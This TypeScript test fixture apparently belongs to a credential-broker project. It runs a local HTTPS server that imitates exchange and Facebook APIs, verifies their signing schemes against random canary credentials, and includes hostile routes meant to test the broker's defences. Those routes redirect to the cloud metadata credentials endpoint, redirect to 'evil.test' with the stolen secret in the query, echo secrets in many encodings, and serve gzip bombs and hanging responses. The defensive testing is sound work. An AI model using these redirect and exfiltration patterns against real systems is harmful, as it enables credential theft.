import { execFileSync } from "node:child_process";
import { createHash, createHmac, randomBytes, timingSafeEqual } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { IncomingHttpHeaders, IncomingMessage, ServerResponse } from "node:http";
import { createServer, type Server } from "node:https";
import type { AddressInfo, Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { TLSSocket } from "node:tls";
import { gzipSync } from "node:zlib";

/**
 * A real HTTPS server standing in for third-party APIs. Each route prefix checks one auth
 * scheme the way its vendor does (so a passing test proves the broker injected and signed
 * correctly), and the remaining routes misbehave on purpose: echoing secrets, redirecting to
 * metadata endpoints, dripping, bombing, hanging, resetting. Every request is recorded, so a
 * test can prove a refused call produced no traffic at all.
 */

export const UPSTREAM_HOST = "api.upstream.test";

/** Canary credentials: distinctive, random per run, so any leak is unambiguous. */
export interface UpstreamCredentials {
  readonly bearer: string;
  readonly headerName: string;
  readonly headerKey: string;
  readonly queryParam: string;
  readonly queryKey: string;
  readonly basicUser: string;
  readonly basicPass: string;
  readonly binanceKey: string;
  readonly binanceSecret: string;
  readonly krakenKey: string;
  /** base64, as Kraken issues it. */
  readonly krakenSecret: string;
  readonly coinbaseKey: string;
  /** base64, as Coinbase Exchange issues it. */
  readonly coinbaseSecret: string;
  readonly coinbasePassphrase: string;
  readonly fbToken: string;
  readonly fbAppSecret: string;
}

export function canaryCredentials(): UpstreamCredentials {
  const c = (label: string): string => `canary${label}${randomBytes(12).toString("hex")}`;
  return {
    bearer: c("bearer"),
    headerName: "X-Upstream-Key",
    headerKey: c("header"),
    queryParam: "api_key",
    queryKey: c("query"),
    basicUser: c("user"),
    basicPass: c("pass"),
    binanceKey: c("binkey"),
    binanceSecret: c("binsecret"),
    krakenKey: c("krkey"),
    krakenSecret: randomBytes(64).toString("base64"),
    coinbaseKey: c("cbkey"),
    coinbaseSecret: randomBytes(64).toString("base64"),
    coinbasePassphrase: c("cbpass"),
    fbToken: c("fbtoken"),
    fbAppSecret: c("fbsecret"),
  };
}

/** One request as the upstream saw it. */
export interface RecordedRequest {
  readonly method: string;
  /** Path and query exactly as received. */
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: Buffer;
  /** SNI the client sent. */
  readonly servername: string | undefined;
}

export interface HttpsUpstream {
  readonly port: number;
  /** PEM of the throwaway CA that signed the server certificate. */
  readonly ca: string;
  readonly requests: RecordedRequest[];
  /** Kraken nonces in arrival order. */
  readonly krakenNonces: string[];
  /** TCP connections accepted since the last reset. */
  connections(): number;
  /** Streaming responses the client hung up on before they ended, since the last reset. */
  abandonedResponses(): number;
  /**
   * What "/binance/.../apiRestrictions" answers (after the signature verified): the key's
   * permissions as Binance reports them, an HTTP status to fail with, or "reset" to drop the
   * connection. Kept across reset(); read-only keys by default.
   */
  binanceRestrictions: Record<string, unknown> | number | "reset";
  /** The page access tokens "/facebook/.../accounts" answers with (Graph /me/accounts), random per run. */
  readonly pageTokens: readonly string[];
  reset(): void;
  close(): Promise<void>;
}

export interface TestCertificates {
  readonly ca: string;
  readonly key: string;
  readonly cert: string;
}

/** A throwaway CA and a server certificate for api.upstream.test and 127.0.0.1, via the openssl CLI. */
export function createTestCertificates(): TestCertificates {
  const dir = mkdtempSync(join(tmpdir(), "keybroker-upstream-"));
  try {
    const run = (...args: string[]): void => {
      execFileSync("openssl", args, { cwd: dir, stdio: "pipe" });
    };
    const ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"];
    run(
      "req",
      "-x509",
      ...ec,
      "-keyout",
      "ca.key",
      "-out",
      "ca.crt",
      "-days",
      "2",
      "-subj",
      "/CN=keybroker test CA",
      "-addext",
      "basicConstraints=critical,CA:TRUE",
      "-addext",
      "keyUsage=critical,keyCertSign,cRLSign",
    );
    run("req", ...ec, "-keyout", "server.key", "-out", "server.csr", "-subj", `/CN=${UPSTREAM_HOST}`);
    writeFileSync(
      join(dir, "server.ext"),
      [
        `subjectAltName=DNS:${UPSTREAM_HOST},IP:127.0.0.1`,
        "basicConstraints=CA:FALSE",
        "keyUsage=critical,digitalSignature",
        "extendedKeyUsage=serverAuth",
      ].join("\n"),
    );
    run(
      "x509",
      "-req",
      "-in",
      "server.csr",
      "-CA",
      "ca.crt",
      "-CAkey",
      "ca.key",
      "-set_serial",
      `0x${randomBytes(8).toString("hex")}`,
      "-out",
      "server.crt",
      "-days",
      "2",
      "-extfile",
      "server.ext",
    );
    return {
      ca: readFileSync(join(dir, "ca.crt"), "utf8"),
      key: readFileSync(join(dir, "server.key"), "utf8"),
      cert: readFileSync(join(dir, "server.crt"), "utf8"),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

let gzipBomb: Buffer | undefined;

/** 16 MiB of zeros, about 16 KiB compressed. */
function bomb(): Buffer {
  gzipBomb ??= gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
  return gzipBomb;
}

export async function startHttpsUpstream(creds: UpstreamCredentials): Promise<HttpsUpstream> {
  const certs = createTestCertificates();
  const requests: RecordedRequest[] = [];
  const krakenNonces: string[] = [];
  // The last nonce "/nonce-strict" accepted; kept across reset(), as an exchange keeps it.
  let lastStrictNonce = 0n;
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let connections = 0;
  let abandoned = 0;
  const pageTokens = [1, 2, 3, 4].map((n) => `EAAGpage${n}canary${randomBytes(12).toString("hex")}`);
  const state: Pick<HttpsUpstream, "binanceRestrictions"> = { binanceRestrictions: BINANCE_READ_ONLY };

  const server: Server = createServer({ key: certs.key, cert: certs.cert });
  // Raw TCP sockets by client port: a TLS socket cannot send an RST, its TCP socket can.
  const rawByPort = new Map<number, Socket>();
  server.on("connection", (socket: Socket) => {
    connections += 1;
    sockets.add(socket);
    const port = socket.remotePort ?? 0;
    rawByPort.set(port, socket);
    socket.on("close", () => {
      sockets.delete(socket);
      rawByPort.delete(port);
    });
  });

  server.on("request", (req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const body = Buffer.concat(chunks);
      const record: RecordedRequest = {
        method: req.method ?? "",
        url: req.url ?? "",
        headers: req.headers,
        body,
        servername: (req.socket as TLSSocket).servername || undefined,
      };
      requests.push(record);
      route(record, res);
    });
  });

  const json = (res: ServerResponse, status: number, value: unknown): void => {
    res.writeHead(status, { "content-type": "application/json" });
    res.end(JSON.stringify(value));
  };

  // Returns the credential the route's scheme carried, or undefined when it does not verify.
  const verify = (scheme: string, r: RecordedRequest): string | undefined => {
    const url = new URL(r.url, "https://upstream");
    const rawQuery = r.url.includes("?") ? r.url.slice(r.url.indexOf("?") + 1) : "";
    const h = (name: string): string | undefined => {
      const v = r.headers[name.toLowerCase()];
      return Array.isArray(v) ? v[0] : v;
    };
    switch (scheme) {
      case "bearer":
        return h("authorization") === `Bearer ${creds.bearer}` ? creds.bearer : undefined;
      case "header":
        return h(creds.headerName) === creds.headerKey ? creds.headerKey : undefined;
      case "query":
        return url.searchParams.get(creds.queryParam) === creds.queryKey ? creds.queryKey : undefined;
      case "basic": {
        const expected = Buffer.from(`${creds.basicUser}:${creds.basicPass}`).toString("base64");
        return h("authorization") === `Basic ${expected}` ? creds.basicPass : undefined;
      }
      case "binance": {
        // Binance: totalParams = query string (minus the trailing signature) + body.
        const match = /(?:^|&)signature=([0-9a-f]{64})$/.exec(rawQuery);
        if (h("x-mbx-apikey") !== creds.binanceKey || match === null) return undefined;
        if (!url.searchParams.has("timestamp")) return undefined;
        const signed = rawQuery.slice(0, match.index);
        const expected = createHmac("sha256", creds.binanceSecret)
          .update(Buffer.concat([Buffer.from(signed), r.body]))
          .digest("hex");
        return safeEqual(expected, match[1] ?? "") ? creds.binanceSecret : undefined;
      }
      case "kraken": {
        const nonce = new URLSearchParams(r.body.toString("latin1")).get("nonce");
        if (h("api-key") !== creds.krakenKey || nonce === null || !r.body.toString().startsWith("nonce=")) {
          return undefined;
        }
        const digest = createHash("sha256").update(nonce).update(r.body).digest();
        const expected = createHmac("sha512", Buffer.from(creds.krakenSecret, "base64"))
          .update(Buffer.concat([Buffer.from(url.pathname), digest]))
          .digest("base64");
        if (!safeEqual(expected, h("api-sign") ?? "")) return undefined;
        krakenNonces.push(nonce);
        return creds.krakenSecret;
      }
      case "coinbase": {
        const ts = h("cb-access-timestamp") ?? "";
        if (
          h("cb-access-key") !== creds.coinbaseKey ||
          h("cb-access-passphrase") !== creds.coinbasePassphrase
        ) {
          return undefined;
        }
        if (!/^\d{10}$/.test(ts)) return undefined;
        const expected = createHmac("sha256", Buffer.from(creds.coinbaseSecret, "base64"))
          .update(`${ts}${r.method}${r.url}`)
          .update(r.body)
          .digest("base64");
        return safeEqual(expected, h("cb-access-sign") ?? "") ? creds.coinbaseSecret : undefined;
      }
      case "facebook": {
        const token = url.searchParams.get("access_token");
        const proof = createHmac("sha256", creds.fbAppSecret)
          .update(token ?? "")
          .digest("hex");
        return token === creds.fbToken && url.searchParams.get("appsecret_proof") === proof
          ? creds.fbToken
          : undefined;
      }
      default:
        return undefined;
    }
  };

  const route = (r: RecordedRequest, res: ServerResponse): void => {
    const url = new URL(r.url, "https://upstream");
    // "/<scheme>/.../<action>": the first segment picks the verifier, the last the behaviour.
    const segments = url.pathname.split("/");
    const scheme = segments[1] ?? "";
    const action = segments[segments.length - 1] ?? "";
    const secret = verify(scheme, r);
    if (secret === undefined) {
      json(res, 401, { error: "credential did not verify" });
      return;
    }
    const secretBytes = Buffer.from(secret);
    switch (action) {
      case "echo": {
        // Everything an echoing or careless API could reflect: the raw request, and the secret
        // in every encoding the scrubber claims to catch.
        res.writeHead(200, {
          "content-type": "application/json",
          "x-echo-raw": secret,
          "x-echo-b64": secretBytes.toString("base64"),
          "set-cookie": `session=${secret}; Secure`,
        });
        res.end(
          JSON.stringify({
            url: r.url,
            headers: r.headers,
            body: r.body.toString("latin1"),
            raw: secret,
            base64: secretBytes.toString("base64"),
            base64url: secretBytes.toString("base64url"),
            hex: secretBytes.toString("hex"),
            HEX: secretBytes.toString("hex").toUpperCase(),
            urlencoded: encodeURIComponent(secret),
            embedded: Buffer.from(`prefix-${secret}-suffix`).toString("base64"),
          }),
        );
        return;
      }
      case "echo-chunked": {
        // The secret is written a few bytes at a time with pauses, so it arrives split
        // across many chunks on the client side.
        res.writeHead(200, { "content-type": "text/plain" });
        const text = Buffer.from(`start ${secret} middle ${secretBytes.toString("base64")} end`);
        let at = 0;
        const step = (): void => {
          if (at >= text.length) {
            res.end();
            return;
          }
          res.write(text.subarray(at, at + 3));
          at += 3;
          const t = setTimeout(step, 1);
          timers.add(t);
        };
        step();
        return;
      }
      case "nonce-strict": {
        // As Kraken does, per API key: a nonce not above the last one accepted is refused with
        // HTTP 200 and an error list (the verifier above has already checked the signature).
        const nonce = BigInt(new URLSearchParams(r.body.toString("latin1")).get("nonce") ?? "0");
        if (nonce <= lastStrictNonce) {
          json(res, 200, { error: ["EAPI:Invalid nonce"] });
          return;
        }
        lastStrictNonce = nonce;
        json(res, 200, { error: [], result: { nonce: String(nonce) } });
        return;
      }
      case "ok":
        json(res, 200, { ok: true, method: r.method });
        return;
      case "slow-ok": {
        // Answers after 1.5 s: a call that is surely in flight when a test stops or kills a broker.
        const t = setTimeout(() => json(res, 200, { ok: true, method: r.method }), 1_500);
        timers.add(t);
        return;
      }
      case "apiRestrictions": {
        const answer = state.binanceRestrictions;
        if (answer === "reset") rawByPort.get(res.socket?.remotePort ?? -1)?.resetAndDestroy();
        else if (typeof answer === "number") json(res, answer, { code: -2015, msg: "Invalid API-key" });
        else json(res, 200, answer);
        return;
      }
      case "accounts": {
        // Graph /me/accounts: page tokens at several depths, one key spelled with a JSON escape,
        // written a few bytes at a time so a token arrives split across chunks.
        const [t1, t2, t3, t4] = pageTokens;
        const text = Buffer.from(
          `{"data":[{"name":"Page one","access_token":"${t1}","id":"101","tasks":["MANAGE"]},` +
            `{"name":"Page two","acc\u0065ss_token":"${t2}","id":"102"},` +
            `{"name":"Page three","connected":{"instagram":{"ACCESS_TOKEN":"${t3}"}},"id":"103"},` +
            `{"name":"Page four","access_token":{"value":"${t4}"}}],` +
            `"paging":{"cursors":{"before":"QVFIUk1","after":"QVFIUjZA"}}}`,
        );
        res.writeHead(200, { "content-type": "application/json; charset=UTF-8" });
        let at = 0;
        const step = (): void => {
          if (at >= text.length) {
            res.end();
            return;
          }
          res.write(text.subarray(at, at + 7));
          at += 7;
          const t = setTimeout(step, 1);
          timers.add(t);
        };
        step();
        return;
      }
      case "redirect-metadata":
        res.writeHead(302, { location: "http://169.254.169.254/latest/meta-data/iam/security-credentials/" });
        res.end();
        return;
      case "redirect-other-host":
        res.writeHead(302, { location: `https://evil.test/collect?stolen=${encodeURIComponent(secret)}` });
        res.end();
        return;
      case "redirect-http":
        res.writeHead(301, { location: `http://${UPSTREAM_HOST}/${scheme}/ok` });
        res.end();
        return;
      case "status-504":
        json(res, 504, { error: "gateway timeout" });
        return;
      case "slow-drip": {
        res.writeHead(200, { "content-type": "text/plain" });
        const t = setInterval(() => res.write("."), 20);
        timers.add(t);
        res.on("close", () => {
          clearInterval(t);
          abandoned += 1;
        });
        return;
      }
      case "huge": {
        res.writeHead(200, { "content-type": "application/octet-stream" });
        res.on("close", () => {
          abandoned += 1;
        });
        const block = Buffer.alloc(64 * 1024, 0x61);
        const pump = (): void => {
          while (!res.destroyed && res.write(block)) {
            // keep writing until the socket pushes back
          }
        };
        res.on("drain", pump);
        pump();
        return;
      }
      case "huge-declared":
        res.writeHead(200, {
          "content-type": "application/octet-stream",
          "content-length": String(1024 ** 3),
        });
        res.write(Buffer.alloc(1024));
        return;
      case "gzip-bomb":
        res.writeHead(200, { "content-type": "application/octet-stream", "content-encoding": "gzip" });
        res.end(bomb());
        return;
      case "gzip-corrupt":
        res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" });
        res.end(Buffer.from("this is not gzip at all"));
        return;
      case "gzip-echo":
        res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" });
        res.end(gzipSync(Buffer.from(`compressed ${secret} body`)));
        return;
      case "hang":
        return;
      case "reset":
        rawByPort.get(res.socket?.remotePort ?? -1)?.resetAndDestroy();
        return;
      default:
        json(res, 404, { error: "no such route" });
    }
  };

  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;

  return {
    port,
    ca: certs.ca,
    requests,
    krakenNonces,
    connections: () => connections,
    abandonedResponses: () => abandoned,
    pageTokens,
    get binanceRestrictions() {
      return state.binanceRestrictions;
    },
    set binanceRestrictions(value) {
      state.binanceRestrictions = value;
    },
    reset() {
      abandoned = 0;
      requests.length = 0;
      krakenNonces.length = 0;
      connections = 0;
    },
    async close() {
      for (const t of timers) clearTimeout(t);
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** A Binance key that can read and trade spot, nothing more (the upstream's default answer). */
export const BINANCE_READ_ONLY: Readonly<Record<string, unknown>> = Object.freeze({
  ipRestrict: false,
  createTime: 1698645219000,
  enableReading: true,
  enableWithdrawals: false,
  enableInternalTransfer: false,
  enableMargin: false,
  enableFutures: false,
  permitsUniversalTransfer: false,
  enableVanillaOptions: false,
  enableFixApiTrade: false,
  enableFixReadOnly: true,
  enableSpotAndMarginTrading: true,
  enablePortfolioMarginTrading: false,
});

function safeEqual(a: string, b: string): boolean {
  const x = Buffer.from(a);
  const y = Buffer.from(b);
  return x.length === y.length && timingSafeEqual(x, y);
}
